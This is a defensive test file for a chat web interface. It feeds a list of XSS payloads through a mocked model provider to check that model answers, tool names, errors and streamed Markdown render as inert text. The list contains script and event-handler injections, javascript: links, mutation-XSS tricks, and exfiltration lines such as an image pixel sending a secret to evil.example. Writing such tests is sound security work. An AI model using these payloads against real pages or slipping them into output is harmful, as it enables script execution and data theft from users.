// Answers of models are not trusted.

import assert from 'node:assert/strict';
import { after, afterEach, beforeEach, test } from 'node:test';

import { answered, closeBrowser, look, noFaults, openPage, say } from './page.mjs';
import { startProvider } from './provider.mjs';
import { startServer } from './server.mjs';

let provider;
let server;
beforeEach(async () => {
  provider = await startProvider();
  server = await startServer(provider, '--yes', 'list-files');
});
afterEach(async () => {
  provider.stop();
  await server.stop();
});
after(closeBrowser);

const ATTACKS = [
  '<script>window.wasRun = 1</script>',
  '<img src=x onerror="window.wasRun = 2">',
  '<svg onload="window.wasRun = 3"><script>window.wasRun = 4</script></svg>',
  '[link](javascript:window.wasRun=5)',
  '[link](JaVaScRiPt&colon;window.wasRun=6)',
  '<a href="data:text/html,<script>window.wasRun=7</script>" id="link">link</a>',
  '<iframe srcdoc="<script>parent.wasRun = 8</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.wasRun=9&gt;">',
  '<form action="https://evil.example"><input name=q><button>Send</button></form>',
  '<style>body { background: url(https://evil.example/style) } #app { display: none }</style>',
  '![leak](https://evil.example/leak?secret)',
  '<img src="https://evil.example/pixel" alt="pixel">',
  '<video poster="https://evil.example/poster"><source src="https://evil.example/video"></video>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/sheet">',
  '<div id="app" class="banner lost" style="position:fixed;inset:0">covered</div>',
  '<button onclick="window.wasRun=10" autofocus onfocus="window.wasRun=11">press</button>',
  '<details open ontoggle="window.wasRun=12"><summary>open</summary></details>',
  '```html\n<script>window.wasRun = 13</script>\n```',
  '`<img src=x onerror=window.wasRun=14>`',
  '<noscript><p title="</noscript><img src=x onerror=window.wasRun=15>">',
  '<![CDATA[<img src=x onerror=window.wasRun=16>]]>',
  '<template><img src=x onerror=window.wasRun=17></template>',
  '[x]: javascript:window.wasRun=18\n\n[x]',
  '<a target="_self" href="https://evil.example/opened">leave</a>',
];

test('an answer full of scripts runs nothing, asks nobody and covers nothing', async () => {
  const page = await openPage(server.url);
  const violations = [];
  await page.exposeFunction('violated', (own) => violations.push(own));
  await page.evaluate(() => document.addEventListener('securitypolicyviolation', (event) => window.violated(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`)));
  provider.reply({ reasoning: ATTACKS.join('\n\n') }, ...ATTACKS.map((own) => `${own}\n\n`), 'That was all.');
  await say(page, ATTACKS.join('\n\n'));
  await answered(page, 'That was all.');
  for (const summary of await page.locator('details.thinking > summary').all()) await summary.click();
  for (const link of await page.locator('.markdown a').all()) {
    const [rel, target, href] = await link.evaluate((own) => [own.rel, own.target, own.href]);
    assert.ok(!href || /^https?:/.test(href), href);
    assert.ok(rel.includes('noopener') && rel.includes('noreferrer') && target === '_blank', href);
  }
  await look(page, 'attacks');
  assert.equal(await page.evaluate(() => window.wasRun), undefined);
  assert.deepEqual(violations, []);
  const found = await page.evaluate(() => {
    const names = 'script, iframe, form, input, button, style, video, base, meta, link, object, embed, template';
    const inside = [...document.querySelectorAll('.markdown')].flatMap((own) => [...own.querySelectorAll(names)].filter((one) => !one.closest('.code-head')));
    const marked = document.querySelectorAll('.markdown [style], .markdown [id], .markdown .block [class]:not([class^="language-"])');
    return [...inside, ...marked].map((own) => own.outerHTML);
  });
  assert.deepEqual(found, []);
  assert.equal(await page.evaluate(() => document.baseURI), server.url);
  noFaults(page);
});

test('names and results of tools, titles and errors are text', async () => {
  const page = await openPage(server.url);
  const attack = '<img src=x onerror="window.wasRun=1">';
  provider.reply({ tool: attack, args: { path: attack } }, { tool: 'list_files', args: { path: attack } });
  provider.reply('Done.');
  await say(page, attack);
  await answered(page, 'Done.');
  provider.reply({ status: 400, error: attack });
  await say(page, 'Again');
  await page.locator('.error').waitFor();
  await page.locator('nav .name', { hasText: attack }).waitFor();
  assert.equal(await page.evaluate(() => window.wasRun), undefined);
  assert.equal(await page.locator('img').count(), 0);
  noFaults(page);
});

test('Markdown that is still being written stays harmless', async () => {
  const page = await openPage(server.url);
  // Each cut leaves other tags open.
  const letters = ATTACKS.slice(0, 9).join('\n\n').match(/[^]{1,7}/g);
  provider.reply(...letters.flatMap((own) => [own, { pause: 2 }]), '\n\nThat was all.');
  await say(page, 'Slowly');
  await answered(page, 'That was all.');
  assert.equal(await page.evaluate(() => window.wasRun), undefined);
  noFaults(page);
});
